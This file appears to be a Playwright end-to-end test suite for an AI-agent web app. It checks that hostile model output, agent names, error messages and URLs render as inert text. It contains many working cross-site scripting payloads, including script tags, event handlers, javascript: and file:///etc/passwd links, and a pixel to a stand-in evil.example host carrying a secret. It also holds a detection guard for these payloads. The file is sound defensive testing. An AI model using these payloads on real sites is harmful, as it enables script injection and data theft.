// What models, people and providers write is shown and never obeyed: nothing runs, nothing is fetched,
// nothing leads anywhere but to the web and to mail, however the text is cut while it comes.
import { allow, expect, expectReply, makeAgent, test } from './lib/fixtures.mjs';
import { layoutFaults } from './lib/layout.mjs';

/** Attacks, each with a word by which its harmless remains are found on the screen. */
const MARKDOWN = `Before it all.

<script>window.hacked = 'script'; alert(1)</script>

<img src="https://evil.example/pixel.png" onerror="window.hacked='onerror'"> ![pixel](https://evil.example/p.png?q=secret "t") ![d](data:image/svg+xml,<svg/onload=alert(1)>)

<svg onload="window.hacked='svg'"><animate onbegin="alert(1)" attributeName=x dur=1s></svg>

<iframe src="https://evil.example/" srcdoc="<script>parent.hacked='srcdoc'</script>"></iframe><object data="https://evil.example/x"></object>

<style>body { display: none; background: url(https://evil.example/style) }</style>

<!-- a comment <script>window.hacked='comment'</script> --> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">

<form action="https://evil.example/"><input name="q"><button formaction="javascript:alert(1)">Send</button></form>

[javascript](javascript:window.hacked='link') [entity](&#106;avascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox(1)) [own](/settings) [proto](//evil.example/) [file](file:///etc/passwd)

<https://ok.example/auto> <javascript:alert(1)> www.ok.example/bare [good](https://ok.example/good) <a href="javascript:alert(1)" onclick="alert(1)">anchor</a>

| a | b |
|---|---|
| <img src=x onerror=alert(1)> | [cell](javascript:alert(1)) |

- [x] <input onfocus=alert(1) autofocus> done
1. note[^1]

[^1]: [foot](javascript:alert(1)) ![f](https://evil.example/foot.png)

\`\`\`html"onload=alert(1)
<script>window.hacked = 'code'</script>
\`\`\`

\`<img src=x onerror=alert(1)>\` and <b style="position:fixed;inset:0;background:url(https://evil.example/b)">bold</b>

After it all.`;

/** Cut inside of tags, attributes, schemes, entities, fences and links, where a half can mean something else. */
const CUTS = ['<scr', 'ipt>win', 'lert(1)</scr', '<im', 'src="https://ev', 'onerr', '![pix', '](https://evil', '<sv', 'onlo', '<ifr', 'srcd',
  '<sty', 'url(https', '<!-', '- a comm', '<ba',
  '[javascr', '](java', 'script:window', '(&#1', '06;ava', 'data:te', '](vbs', '](//', '<https:/', '<javascr', 'www.ok.ex', '<a href="java',
  '|--', '| <im', '[^', '1]: [f', '``', '`html', '"onload', '<b sty'];

function piecesOf(text, cuts) {
  const places = cuts.map((cut) => {
    const at = text.indexOf(cut);
    if (at < 0) throw new Error(`no such place to cut: ${cut}`);
    return at + Math.ceil(cut.length / 2);
  }).sort((a, b) => a - b);
  return [0, ...new Set(places)].map((from, i, all) => text.slice(from, all[i + 1]));
}

/** Installed before any script of the page: notes every element and attribute that may not appear, even for a moment. */
function guard() {
  window.caught = [];
  window.alert = (text) => window.caught.push(`alert ${text}`);
  const forbidden = 'iframe, object, embed, img, meta[http-equiv], base, form[action], video, audio, animate, area, frame';
  const look = (root) => {
    for (const element of [root, ...root.querySelectorAll('*')]) {
      if (element.matches(forbidden) && !element.closest('head')) window.caught.push(element.outerHTML.slice(0, 200));
      if (element.matches('main script, main style, main link')) window.caught.push(element.outerHTML.slice(0, 200));
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) window.caught.push(`${name}=${value}`);
        if (/^(href|src|action|formaction|xlink:href|srcdoc|data)$/i.test(name) && /^\s*(javascript|vbscript|data|file|blob):/i.test(value)) window.caught.push(`${name}=${value}`);
        if (name === 'style' && /url\(/i.test(value)) window.caught.push(value);
      }
    }
  };
  new MutationObserver((records) => {
    for (const { type, target, addedNodes } of records) {
      if (type === 'attributes') look(target);
      for (const node of addedNodes) if (node.nodeType === Node.ELEMENT_NODE) look(node);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
}

test.beforeEach(async ({ page }) => {
  await page.addInitScript(guard);
});

/** Nothing of it came to life, in this page and since it was opened. */
async function expectInert(page) {
  expect(await page.evaluate(() => ({ hacked: window.hacked ?? null, caught: window.caught }))).toEqual({ hacked: null, caught: [] });
}

/** The answer stands there, its links lead outside and nowhere else. */
async function expectShown(page, place) {
  await expect(place.getByText('After it all.')).toBeVisible();
  await expect(place.getByRole('link', { name: 'good' })).toHaveAttribute('href', 'https://ok.example/good');
  const links = await place.getByRole('link').evaluateAll((all) => all.map((link) => ({ href: link.href, rel: link.rel, target: link.target })));
  for (const { href, rel, target } of links.filter(({ href: to }) => !to.startsWith('http://localhost'))) {
    expect(href).toMatch(/^(https?:\/\/(www\.)?(ok|evil)\.example|mailto:)/);
    expect([rel, target]).toEqual(['noopener noreferrer nofollow', '_blank']);
  }
  // What was written as HTML is still there to read.
  await expect(place.getByText("window.hacked = 'script'").first()).toBeVisible();
  await expectInert(page);
}

/** How a text comes: at once, cut where it hurts, one character at a time. */
const WAYS = {
  whole: { pieces: [MARKDOWN] },
  'cut at awkward places': { pieces: piecesOf(MARKDOWN, CUTS), delay: 25 },
  'a character at a time': { text: MARKDOWN, chunks: MARKDOWN.length },
};

for (const [way, script] of Object.entries(WAYS)) {
  test(`an answer in the chat, ${way}, stays text`, async ({ page, account, world }) => {
    const agent = await makeAgent(account, { model: 'hostile' });
    world.fake.script('hostile', script);
    await page.goto(`/agents/${agent.id}`);
    await page.getByRole('textbox', { name: 'Message' }).fill('Show me the worst.');
    await page.keyboard.press('Enter');
    await expect(page.getByRole('group', { name: 'Figures of this answer' })).toBeVisible();
    await expectShown(page, page.getByRole('log'));
  });
}

test('an answer stays text in the run, formatted and raw', async ({ page, account, world }) => {
  const agent = await makeAgent(account, { model: 'hostile' });
  world.fake.script('hostile', { text: MARKDOWN });
  const { run_id: id } = expectReply(await account.client.post('/v1/ai/generate', {
    agent_id: agent.id, input_text: MARKDOWN, metadata: { '<img src=x onerror=alert(1)>': '</pre><script>alert(1)</script>' },
  }), 200);
  await page.goto(`/runs/${id}`);
  const answer = page.locator('section').filter({ has: page.getByRole('heading', { name: 'Answer' }) });
  await expectShown(page, answer);
  await answer.getByRole('radio', { name: 'Raw text' }).click();
  await expect(answer.getByText('<!-- a comment')).toBeVisible();
  await expectInert(page);
});

test('an answer in the wizard’s preview stays text', async ({ page, account, world }) => {
  const agent = await makeAgent(account, { model: 'hostile', config: { greeting: MARKDOWN, suggested_questions: ['<img src=x onerror=alert(1)>'] } });
  world.fake.script('hostile', WAYS['cut at awkward places']);
  await page.goto(`/agents/${agent.id}/edit?step=conversation`);
  const preview = page.getByRole('complementary', { name: 'Preview' });
  await preview.getByRole('button', { name: '<img src=x onerror=alert(1)>' }).click();
  await expect(preview.getByRole('group', { name: 'Figures of this answer' })).toBeVisible();
  await expectShown(page, preview.getByRole('article', { name: /^Message from/ }).last());
});

test('what a model proposes for an agent stays text', async ({ page, account, world }) => {
  const proposal = {
    name: '<img src=x onerror=alert(1)>',
    description: '<script>alert(1)</script>',
    config: { instructions: MARKDOWN, greeting: MARKDOWN.slice(0, 1500), suggested_questions: ['[x](javascript:alert(1))'] },
  };
  world.fake.script('echo', { text: JSON.stringify(proposal), chunks: 60, delay: 5 });
  await page.goto('/agents/new');
  await page.getByRole('textbox', { name: 'Describe the agent' }).fill('Answers <b>everything</b> about <script>alert(1)</script>.');
  await page.getByRole('button', { name: 'Create agent' }).click();
  await expect(page.getByRole('heading', { name: 'Your agent is ready to try' })).toBeVisible();
  await expect(page.getByRole('main').getByText('After it all.').first()).toBeVisible();
  await expectInert(page);
});

test('answers in a test of a prompt stay text', async ({ page, account, world }) => {
  const prompt = expectReply(await account.client.post('/v1/prompts', {
    name: '<svg onload=alert(1)>',
    prompt_text: `${MARKDOWN}\n{{"><script>alert(1)</script>}} {{name}}`,
    metadata: { category: '<b>c</b>', tags: ['<script>'] },
  }), 201);
  world.fake.script('echo', WAYS['cut at awkward places']);
  await page.goto(`/prompts/${prompt.id}`);
  await page.getByRole('button', { name: 'Run' }).click();
  const answers = page.getByRole('region', { name: 'Answers' });
  await expect(answers.getByRole('button', { name: 'Copy the answer' })).toBeVisible();
  await expectShown(page, answers);
});

/** Names as somebody malicious or merely unlucky gives them. */
const NAMES = {
  html: '<img src=x onerror=alert(1)><script>alert(2)</script>',
  quotes: '"><svg onload=alert(1)>\' onmouseover=alert(2) \'',
  placeholders: '{name} {count, plural, one {#}} {{x}} <b>{</b> \'{\' %s ${x}',
  backwards: 'evil\u202Egnp.exe\u202C \u2066end',
  long: 'W'.repeat(100),
  combining: `Z${'\u0300\u0336'.repeat(45)}`,
  arabic: 'مساعد <b>المبيعات</b> (v2)',
};

test('names and descriptions of others stay text wherever they stand, and break no screen', async ({ page, account, world }) => {
  const agents = [];
  for (const name of Object.values(NAMES)) {
    const config = { provider: 'openai', model: 'hostile', instructions: name, persona: name, greeting: name, suggested_questions: [name] };
    agents.push(expectReply(await account.client.post('/v1/agents', { name, description: `${name}\n${'no-space-'.repeat(40)}`, config }), 201));
    expectReply(await account.client.post('/v1/prompts', { name, prompt_text: name, metadata: { category: name.slice(0, 50), tags: [name.slice(0, 40)] } }), 201);
    expectReply(await account.client.post('/v1/api-keys', { name }), 201);
    world.fake.script('hostile', { text: name });
    expectReply(await account.client.post('/v1/ai/generate', { agent_id: agents.at(-1).id, input_text: name }), 200);
  }
  const { length } = Object.keys(NAMES);
  const screens = {
    '/agents': page.getByRole('heading', { level: 2 }).nth(length - 1),
    '/': page.getByText(NAMES.long).filter({ visible: true }).first(),
    '/prompts': page.getByText(NAMES.long).filter({ visible: true }).first(),
    '/runs': page.getByText(NAMES.long).filter({ visible: true }).first(),
    '/settings?tab=keys': page.getByText(NAMES.long),
    '/agents/new': page.getByRole('heading', { level: 1 }),
  };
  for (const agent of agents) {
    screens[`/agents/${agent.id}`] = page.getByRole('textbox', { name: 'Message' });
    screens[`/agents/${agent.id}/edit?step=review`] = page.getByRole('heading', { name: 'Ready to publish?' });
  }
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 844 });
    for (const [path, ready] of Object.entries(screens)) {
      await page.goto(path);
      await expect(ready, path).toBeVisible();
      expect.soft(await page.evaluate(layoutFaults), `layout of ${path} at ${width} px`).toEqual([]);
      await expectInert(page);
    }
  }
});

test('what went wrong is told as text', async ({ page, account, world, complaints }) => {
  const evil = '<img src=x onerror=alert(1)><script>alert(2)</script> https://evil.example/?token=x';
  const agent = await makeAgent(account, { name: NAMES.html, model: 'hostile' });
  world.fake.script('hostile', { fault: 'status', status: 400, message: evil }, { fault: 'status', status: 400, message: evil });
  const reply = await account.client.post('/v1/ai/generate', { agent_id: agent.id, input_text: evil });
  expect(reply.status).toBeGreaterThanOrEqual(400);
  for (const kind of ['error', 'csp']) {
    const report = { kind, message: `${kind} ${evil}`, stack: `Error: ${evil}\n at ${evil}`, path: '/agents?<script>' };
    expectReply(await account.client.post('/v1/errors', report), 204);
  }

  await page.goto('/errors');
  const rows = page.getByRole('list', { name: 'Errors' }).getByRole('button', { expanded: false });
  await expect(rows).toHaveCount(3);
  for (let left = 3; left > 0; left -= 1) {
    await rows.first().click();
    await expect(rows).toHaveCount(left - 1);
  }
  await expect(page.getByText('error <img src=x').first()).toBeVisible();
  await expectInert(page);

  await page.goto(`/agents/${agent.id}`);
  await page.getByRole('textbox', { name: 'Message' }).fill(evil);
  await page.keyboard.press('Enter');
  await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible();
  await expectInert(page);
  allow(complaints, /status of 4\d\d/);
});

test('an address that is hostile leads nowhere and shows nothing of itself as HTML', async ({ page, account, complaints }) => {
  expect(account.user.name).toBe('Ada Lovelace');
  const paths = ['/agents/%3Cscript%3Ealert(1)%3C%2Fscript%3E', '/runs/..%2f..%2fv1%2fauth%2fme', '/prompts/%00',
    '/agents?q=%3Cimg%20src=x%20onerror=alert(1)%3E&status=javascript:alert(1)', '/agents?q=%E0%A4%A'];
  for (const path of paths) {
    const reply = await page.goto(path);
    // What is no address at all is refused before it is a page.
    if (reply.status() === 400) {
      expect(reply.headers()['content-type']).toBe('application/problem+json');
      continue;
    }
    await expect(page.getByRole('heading').first(), path).toBeVisible();
    await expectInert(page);
  }
  allow(complaints, /status of 4\d\d/);
});
